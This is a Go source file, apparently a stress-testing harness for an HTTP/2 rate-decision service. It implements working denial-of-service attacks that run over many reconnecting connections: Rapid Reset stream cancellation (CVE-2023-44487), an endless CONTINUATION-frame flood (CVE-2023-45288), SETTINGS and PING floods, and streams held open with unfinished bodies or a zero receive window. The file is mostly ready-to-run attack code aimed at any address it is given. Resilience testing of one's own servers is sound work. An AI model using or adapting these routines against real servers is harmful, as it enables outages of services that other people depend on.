package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// A frames writes HTTP/2 frames to a connection, and ignores what comes back.
type frames struct {
	*http2.Framer
	conn    net.Conn
	headers [2][]byte // of a GET, and of a POST
	// decision is the header of a request for a decision, without a body.
	decision []byte
	done     *atomic.Int64
}

// overFrames opens HTTP/2 connections, each again when the server closes it, and runs
// an attack on each. The answer is how many of what it has sent.
func overFrames(conns int, what string, run func(context.Context, *frames) error) func(context.Context, string) string {
	return func(ctx context.Context, addr string) string {
		var done atomic.Int64
		var wg sync.WaitGroup
		for range conns {
			wg.Go(func() {
				for ctx.Err() == nil {
					c, err := dial(ctx, addr, 0)
					if err != nil {
						time.Sleep(10 * time.Millisecond)
						continue
					}
					stop := context.AfterFunc(ctx, func() { c.Close() })
					go func() { _, _ = io.Copy(io.Discard, c) }()
					f := &frames{Framer: http2.NewFramer(c, nil), conn: c, done: &done}
					f.headers = [2][]byte{header("GET", "/healthz"), header("POST", "/rate")}
					f.decision = header("POST", "/rate/a")
					if _, err = io.WriteString(c, http2.ClientPreface); err == nil {
						_ = run(ctx, f) // the server may close the connection
					}
					stop()
					c.Close()
					time.Sleep(10 * time.Millisecond)
				}
			})
		}
		wg.Wait()
		return fmt.Sprint(done.Load(), " ", what)
	}
}

func header(method, path string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	e.SetMaxDynamicTableSize(0)
	for _, f := range [][2]string{{":method", method}, {":scheme", "http"}, {":authority", "a"}, {":path", path}} {
		_ = e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	return b.Bytes()
}

func (f *frames) open(id uint32, header []byte, ends bool) error {
	f.done.Add(1)
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: header, EndHeaders: true, EndStream: ends})
}

// resetStreams opens requests with a body, and resets them (CVE-2023-44487).
func resetStreams(ctx context.Context, f *frames) error {
	if err := f.WriteSettings(); err != nil {
		return err
	}
	for id := uint32(1); ctx.Err() == nil; id += 2 {
		if err := f.open(id, f.headers[1], false); err != nil {
			return err
		}
		if err := f.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return nil
}

// continueHeaders sends a header that does not end (CVE-2023-45288).
func continueHeaders(ctx context.Context, f *frames) error {
	if err := f.WriteSettings(); err != nil {
		return err
	}
	first := http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.headers[0]}
	if err := f.WriteHeaders(first); err != nil {
		return err
	}
	for part := header("x", "y"); ctx.Err() == nil; f.done.Add(1) {
		if err := f.WriteContinuation(1, false, bytes.Repeat(part, 100)); err != nil {
			return err
		}
	}
	return nil
}

// sendSettings sends settings, which the server must acknowledge.
func sendSettings(ctx context.Context, f *frames) error {
	for ; ctx.Err() == nil; f.done.Add(1) {
		if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16}); err != nil {
			return err
		}
	}
	return nil
}

// sendPings sends pings, which the server must answer.
func sendPings(ctx context.Context, f *frames) error {
	if err := f.WriteSettings(); err != nil {
		return err
	}
	for ; ctx.Err() == nil; f.done.Add(1) {
		if err := f.WritePing(false, [8]byte{1}); err != nil {
			return err
		}
	}
	return nil
}

const streamsEach = 1000

// halfBodies opens requests with a body that does not end.
func halfBodies(ctx context.Context, f *frames) error {
	if err := f.WriteSettings(); err != nil {
		return err
	}
	for i := range uint32(streamsEach) {
		if err := f.open(2*i+1, f.headers[1], false); err != nil {
			return err
		}
		if err := f.WriteData(2*i+1, false, []byte("[")); err != nil {
			return err
		}
	}
	<-ctx.Done()
	return nil
}

// unreadAnswers opens requests, and lets the server send no answers.
func unreadAnswers(ctx context.Context, f *frames) error {
	if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return err
	}
	for i := range uint32(streamsEach) {
		if err := f.open(2*i+1, f.headers[0], true); err != nil {
			return err
		}
	}
	<-ctx.Done()
	return nil
}
